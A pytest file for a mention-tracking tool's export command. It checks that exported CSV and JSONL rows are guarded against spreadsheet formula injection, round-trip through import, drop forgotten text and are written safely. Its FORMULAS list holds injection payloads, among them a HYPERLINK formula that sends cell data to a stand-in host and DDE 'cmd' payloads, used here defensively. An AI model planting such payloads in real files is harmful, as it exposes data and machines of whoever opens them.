"""`warmline export`: all that is kept comes out, nothing in it is a formula, and it comes back as it was."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import tracemalloc
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from hypothesis import given, settings
from hypothesis import strategies as st

from listener.archive.connect import stamp
from listener.archive.forget import Forgetting
from listener.archive.record import Recorder
from listener.clean import clean_mention
from listener.mention import Author, Batch, Mention
from listener.rows import read_rows
from listener.rows.exported import row_of
from listener.rows.guard import guarded, unguarded
from listener.triaged import Triaged
from responders import decide
from responders.exporting import EXPORTED, as_csv, exported
from responders.office import Office
from responders.queue import Seen
from tests.builders import NOON, a_mention, an_author
from tests.responders.desk.seeded import a_triage, hear, hold

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "−1",
    "|calc", "%0A=1", "\n=1", "\u3000＝1", "\u202e=1", '"=1+1', "'=1+1", "''=1",
]  # fmt: skip
# What a spreadsheet would compute: a first character, or one behind what it skips.
BEGINNINGS = tuple("=+-@\t\r＝＋－＠−|%")


def cells(lines: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(lines, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula_and_none_loses_a_letter(office: Office, text: str) -> None:
    hear(office, a_mention(1, text=text, author=an_author(name=text, handle=text.strip())), because=text)
    [row] = cells("".join(as_csv(exported(office.db))))
    for name, cell in row.items():
        assert not cell.lstrip(" \u00a0\u200b\ufeff\u3000\u202e\n\t\r").startswith(BEGINNINGS), name
    assert unguarded(row["text"]) == text
    assert unguarded(row["author_name"]) == text


@given(st.text())
def test_a_guard_is_taken_off_as_it_was_put_on(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not cell.startswith(BEGINNINGS)
    assert cell == text or cell == "'" + text


def test_a_row_tells_what_became_of_it(office: Office) -> None:
    waiting = hear(office, a_mention(2, text="=1+1, says the lamp", author=an_author("juno")))
    hold(office, waiting, "=1+1 is two, Juno.")
    done = hold(office, hear(office, a_mention(1)), route="by_hand")
    decide.approve(office, done.draft_id, Seen(done.revision, done.text_sha256), done.text, "Ana")
    decide.posted_by_hand(office, done.draft_id, "http://127.0.0.1:8101/posts/p9", "Ana")
    first, second = cells("".join(as_csv(exported(office.db))))
    assert list(first) == list(EXPORTED)
    assert (first["lane"], first["sentiment"], first["priority"]) == ("help", "negative", "normal")
    assert (first["draft_state"], first["reply"]) == ("held", "'=1+1 is two, Juno.")
    assert (first["watches"], first["posted_at"]) == ("us", stamp(NOON - timedelta(minutes=2)))
    assert (second["outcome"], second["outcome_by"], second["reply"]) == ("answered", "Ana", done.text)
    assert (second["reply_how"], second["reply_url"]) == ("by_hand", "http://127.0.0.1:8101/posts/p9")
    assert second["replied_at"] == stamp(office.now())


def test_what_was_forgotten_has_its_row_and_no_words(office: Office) -> None:
    number = hear(office, a_mention(1, text="the lighthouse words", extra={"cid": "words"}))
    hold(office, number, "You wrote “the lighthouse words”, Mira.")
    Forgetting(office.db).forget_posts("plaza", ["p1"], office.now())
    told = "".join(as_csv(exported(office.db)))
    [row] = cells(told)
    assert row["gone_at"]
    assert "words" not in told.replace('""extra""', "")
    assert "Mira" not in told
    assert "mira" not in told


def test_it_is_narrowed_to_a_time_and_a_watch(settings: Path, warmline: Callable[..., Result]) -> None:
    kept = settings.parent / "in.csv"
    kept.write_text(
        "platform,post_id,text,posted_at\n"
        "plaza,1,Harbourlight hums,2026-01-01\nplaza,2,Harbourlight glows,2026-02-01\nplaza,3,a gull,2026-02-02\n",
        encoding="utf-8",
    )
    warmline("import", str(kept))
    assert [row["post_id"] for row in cells(warmline("export").stdout)] == ["1", "2", "3"]
    assert [row["post_id"] for row in cells(warmline("export", "--since", "2026-01-15").stdout)] == ["2", "3"]
    assert [row["post_id"] for row in cells(warmline("export", "--watch", "harbourlight").stdout)] == ["1", "2"]
    told = [json.loads(line) for line in warmline("export", "--jsonl").stdout.splitlines()]
    assert [row["post_id"] for row in told] == ["1", "2", "3"]
    assert "there is no watch" in warmline("export", "--watch", "rival", expect=2).stderr
    assert "ISO 8601" in warmline("export", "--since", "soon", expect=2).stderr


def test_a_file_is_whole_or_not_there_and_its_owner_s_alone(
    settings: Path, warmline: Callable[..., Result], monkeypatch: pytest.MonkeyPatch
) -> None:
    file = settings.parent / "out.jsonl"
    kept = settings.parent / "in.csv"
    kept.write_text("text,posted_at\nHarbourlight hums,2026-01-01\n", encoding="utf-8")
    warmline("import", str(kept))
    assert "Wrote 1 mention to" in warmline("export", str(file)).stdout
    assert json.loads(file.read_text(encoding="utf-8"))["text"] == "Harbourlight hums"
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    before = file.read_bytes()

    def full(*_: object) -> str:
        raise OSError(28, os.strerror(28))

    monkeypatch.setattr("responders.commands.export.as_json", full)
    assert "cannot write" in warmline("export", str(file), expect=1).stderr
    assert file.read_bytes() == before
    assert sorted(path.name for path in settings.parent.glob("*out*") if path != file) == []
    assert "cannot write" in warmline("export", "nowhere/out.csv", expect=1).stderr


WORDS = st.text(max_size=40)
MENTIONS = st.builds(
    Mention,
    platform=st.sampled_from(["x", "mastodon", "import"]),
    post_id=st.text(min_size=1, max_size=12),
    author=st.builds(
        Author, st.just("x"), st.text(min_size=1, max_size=12), WORDS, WORDS, st.none() | st.integers(0, 2**63 - 1),
        st.just("https://x.example/a"), st.booleans(),
    ),
    text=WORDS,
    posted_at=st.integers(0, 4_000_000_000_000).map(lambda ms: NOON + timedelta(milliseconds=ms - 2_000_000_000_000)),
    url=st.sampled_from(["", "https://x.example/1?a=b"]),
    in_reply_to=st.none() | WORDS,
    lang=st.none() | st.just("en"),
    likes=st.none() | st.integers(0, 10),
    to_us=st.booleans(),
    ours=st.booleans(),
    links=st.lists(st.just("https://l.example/"), max_size=2).map(tuple),
    extra=st.dictionaries(st.text(max_size=8), WORDS, max_size=2),
).map(lambda said: clean_mention(said))  # fmt: skip


@settings(deadline=None, max_examples=60)
@given(said=MENTIONS, kind=st.sampled_from(["out.csv", "out.jsonl"]))
def test_any_mention_comes_back_as_it_was(tmp_path_factory: pytest.TempPathFactory, said: Mention, kind: str) -> None:
    from responders.commands.common import as_json

    row = {**dict.fromkeys(EXPORTED), **row_of(said)}
    path = tmp_path_factory.mktemp("back") / kind
    lines = as_csv([row]) if kind.endswith("csv") else [as_json(row) + "\n"]
    with path.open("w", encoding="utf-8", newline="") as file:
        file.writelines(lines)
    [back] = read_rows(path)
    # A person belongs to the platform of their post.
    assert back == replace(said, author=replace(said.author, platform=said.platform))


@pytest.mark.parametrize("kind", ["out.csv", "out.jsonl"])
def test_an_export_is_imported_as_the_same_mentions(
    settings: Path, warmline: Callable[..., Result], read: Callable[..., Any], kind: str
) -> None:
    kept = settings.parent / "in.csv"
    rows = "".join(
        f'plaza,{n},@p{n},"{text}",2026-01-01T00:00:0{n % 10}Z,winter\n'
        for n, text in enumerate(["@harbourlight =1+1", "'quoted' Harbourlight", "-5 % Harbourlight", "two\nlines"])
    )
    kept.write_text("platform,post_id,author_handle,text,posted_at,campaign\n" + rows, encoding="utf-8")
    warmline("import", str(kept))
    out = str(settings.parent / kind)
    warmline("export", out)
    before = [json.loads(line) for line in warmline("export", "--jsonl").stdout.splitlines()]
    for file in settings.parent.glob("warmline.db*"):
        file.unlink()
    assert (told := read("import", out))["new"] == 4, told
    after = [json.loads(line) for line in warmline("export", "--jsonl").stdout.splitlines()]
    assert [{**row, "heard_at": ""} for row in after] == [{**row, "heard_at": ""} for row in before]
    assert read("import", out)["known"] == 4


def test_a_row_without_words_or_one_that_was_changed_is_told(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    row = {"text": "", "posted_at": "2026-01-01", "gone_at": "2026-01-02", "exported": {"author_id": "a"}}
    path.write_text(json.dumps(row) + "\n" + json.dumps({**row, "gone_at": None, "likes": "many"}), encoding="utf-8")
    assert ["forgotten" in bad.reason or "many" in bad.reason for bad in read_rows(path)] == [True, True]  # type: ignore[union-attr]


def test_memory_does_not_grow_with_what_is_kept(office: Office) -> None:
    def more(first: int) -> None:
        said = [Triaged(a_mention(n), ("us",), True, a_triage()) for n in range(first, first + 1200)]
        Recorder(office.db).record("plaza", "search", said, Batch(), office.now())

    def peak() -> int:
        tracemalloc.start()
        rows = sum(1 for _ in as_csv(exported(office.db)))
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert rows > 1200
        return most

    more(10)
    once = peak()
    more(2000)
    assert peak() < 1.2 * once
